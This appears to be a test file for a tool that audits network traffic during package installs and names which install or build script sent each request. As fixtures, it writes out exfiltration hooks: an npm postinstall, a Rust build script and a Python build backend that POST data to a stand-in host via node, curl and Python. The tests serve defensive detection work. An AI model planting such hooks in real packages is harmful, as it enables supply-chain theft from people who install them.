import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readJournal, type Journal } from '../helpers/audit-run.ts';
import { sha256 } from '../helpers/origin/random.ts';
import { runCommand } from '../helpers/origin/run-command.ts';
import { createTarGz } from '../helpers/registries/archives/tar.ts';
import { missingCommand, missingOneOf } from '../helpers/registries/commands.ts';
import { useScene } from '../helpers/scene.ts';

const scene = useScene('attribution');
const url = 'https://origin.test/upload';
const because = (reason: string | undefined): string => (reason === undefined ? '' : ` (${reason})`);

function write(directory: string, files: Readonly<Record<string, string | Buffer>>): void {
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(directory, name)), { recursive: true });
    writeFileSync(join(directory, name), content);
  }
}

/** Runs a command audited in a directory of its own. */
async function run(name: string, command: readonly string[], files: Parameters<typeof write>[1]) {
  const { user, options } = scene();
  const cwd = join(user.directory, name);
  mkdirSync(cwd, { recursive: true });
  write(cwd, files);
  const file = join(user.directory, `${name}.jsonl`);
  const result = await user.proxaudit(['-o', file, ...options, '--', ...command], { cwd });
  expect(result.code, result.stderr).toBe(0);
  return { summary: result.stderr, journal: readJournal(file) };
}

/** Who sent this body, as the journal has it. The origin saw it whole. */
function senderOf(journal: Journal, body: string) {
  const digest = sha256(Buffer.from(body));
  expect(scene().origin.log.map(({ requestBody }) => requestBody.sha256)).toContain(digest);
  const sent = journal.exchanges.filter(({ request }) => request.body.sha256 === digest);
  expect(sent).toHaveLength(1);
  expect(sent[0]?.request).toMatchObject({ method: 'POST', url, body: { size: body.length } });
  return sent[0]?.process;
}

const postByPython = (body: string): string =>
  `import urllib.request\nurllib.request.urlopen(urllib.request.Request("${url}", data=b"${body}"), timeout=60).read()\n`;

describe('a script that posts data out is named', () => {
  const npm = missingOneOf('npm', 'curl', 'python3');

  it.skipIf(npm !== undefined)(`when it is a package’s postinstall${because(npm)}`, async () => {
    const { user } = scene();
    const bodies = { node: 'secrets by node', curl: 'secrets by curl', python: 'secrets by python' };
    const post = [
      `const { execFileSync } = require('node:child_process');`,
      `const request = require('node:https').request('${url}', { method: 'POST' }, (response) => {`,
      `  response.resume().on('end', () => {`,
      `    execFileSync('sh', ['-c', "curl -sS -d '${bodies.curl}' ${url}; true"], { stdio: 'inherit' });`,
      `    execFileSync('python3', ['post.py'], { stdio: 'inherit' });`,
      `  });`,
      `});`,
      `request.end('${bodies.node}');`,
    ].join('\n');
    const manifest = { name: 'left-pad', version: '1.3.0', scripts: { postinstall: 'node post.js' } };
    const tarball = createTarGz({
      'package/package.json': JSON.stringify(manifest),
      'package/post.js': post,
      'package/post.py': postByPython(bodies.python),
    });
    const project = { name: 'shop', version: '1.0.0', dependencies: { 'left-pad': 'file:left-pad.tgz' } };
    const files = { 'package.json': JSON.stringify(project), 'left-pad.tgz': tarball };
    const cwd = join(user.directory, 'npm');
    write(cwd, files);
    const quiet = ['--no-audit', '--no-fund', '--no-update-notifier'];
    const lock = ['npm', 'install', '--package-lock-only', '--offline', ...quiet];
    expect((await runCommand(lock, { cwd, env: user.env })).code).toBe(0);

    const { journal, summary } = await run('npm', ['npm', 'ci', '--offline', ...quiet], files);
    const script = { ecosystem: 'npm', package: 'left-pad@1.3.0', script: 'postinstall' };
    const [node, curl, python] = Object.values(bodies).map((body) => senderOf(journal, body));
    expect(node).toMatchObject({ ...script, name: 'node', command: ['node', 'post.js'] });
    expect(node?.cwd).toBe('node_modules/left-pad');
    expect(node?.parents?.map(({ name }) => name)).toEqual(['sh', expect.stringMatching(/^npm/)]);
    expect(curl).toMatchObject({ ...script, name: 'curl' });
    expect(curl?.parents?.map(({ name }) => name).slice(0, 3)).toEqual(['sh', 'node', 'sh']);
    expect(python).toMatchObject(script);
    expect(python?.name).toMatch(/^python3/);
    expect(summary.replace(/\s+/g, ' ')).toContain(
      `↑ left-pad@1.3.0 postinstall POST origin.test ${bodies.python.length} B sent sha256:${sha256(Buffer.from(bodies.python))}`,
    );
  });

  const cargo = missingOneOf('cargo', 'cc', 'curl');

  it.skipIf(cargo !== undefined)(`when it is a crate’s build script${because(cargo)}`, async () => {
    const body = 'secrets by a build script';
    const build = `fn main() { std::process::Command::new("curl").args(["-sS", "-d", "${body}", "${url}"]).status().unwrap(); }\n`;
    const { journal } = await run('cargo', ['cargo', 'build', '--offline'], {
      'Cargo.toml': '[package]\nname = "native-pad"\nversion = "0.9.1"\nedition = "2021"\n',
      'build.rs': build,
      'src/main.rs': 'fn main() {}\n',
    });
    const process = senderOf(journal, body);
    expect(process).toMatchObject({
      name: 'curl',
      ecosystem: 'cargo',
      package: 'native-pad@0.9.1',
      script: 'build.rs',
    });
    expect(process?.parents?.[0]?.name).toBe('build-script-bu');
  });

  const pip = missingCommand('pip');

  it.skipIf(pip !== undefined)(`when it is the build of a source distribution${because(pip)}`, async () => {
    const bodies = { hook: 'secrets by a hook', setup: 'secrets by setup.py' };
    const backend = `import subprocess, sys
def build_wheel(directory, config_settings=None, metadata_directory=None):
${postByPython(bodies.hook).replace(/^/gm, '    ')}
    subprocess.run([sys.executable, "setup.py", "build"], check=True)
    import os, zipfile
    info = "sdist_pad-2.0.1.dist-info"
    with zipfile.ZipFile(os.path.join(directory, "sdist_pad-2.0.1-py3-none-any.whl"), "w") as wheel:
        wheel.writestr(info + "/METADATA", "Metadata-Version: 2.1\\nName: sdist-pad\\nVersion: 2.0.1\\n")
        wheel.writestr(info + "/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "/RECORD", "")
    return "sdist_pad-2.0.1-py3-none-any.whl"
`;
    const sdist = createTarGz({
      'sdist_pad-2.0.1/PKG-INFO': 'Metadata-Version: 2.1\nName: sdist-pad\nVersion: 2.0.1\n',
      'sdist_pad-2.0.1/pyproject.toml':
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      'sdist_pad-2.0.1/backend.py': backend,
      'sdist_pad-2.0.1/setup.py': postByPython(bodies.setup),
    });
    const install = ['pip', 'wheel', '--no-index', '--no-deps', '--disable-pip-version-check'];
    const { journal } = await run('pip', [...install, './sdist_pad-2.0.1.tar.gz'], {
      'sdist_pad-2.0.1.tar.gz': sdist,
    });
    const common = { ecosystem: 'pypi', package: 'sdist-pad@2.0.1' };
    const hook = expect.stringMatching(/^(?:prepare_metadata_for_)?build_wheel$/) as string;
    expect(senderOf(journal, bodies.hook)).toMatchObject({ ...common, script: hook });
    expect(senderOf(journal, bodies.setup)).toMatchObject({ ...common, script: 'setup.py build' });
  });
});

it('a command that is done before anybody could look is still named', async () => {
  const { origin } = scene();
  const journals = await Promise.all(
    Array.from({ length: 6 }, (_, index) =>
      run(`short-${index}`, ['curl', '-sS', '-o', '/dev/null', `http://origin.test/random/${index}`], {}),
    ),
  );
  for (const { journal } of journals) {
    expect(journal.exchanges.map(({ process }) => process?.name)).toEqual(['curl']);
  }
  expect(origin.log.length).toBeGreaterThanOrEqual(6);
});
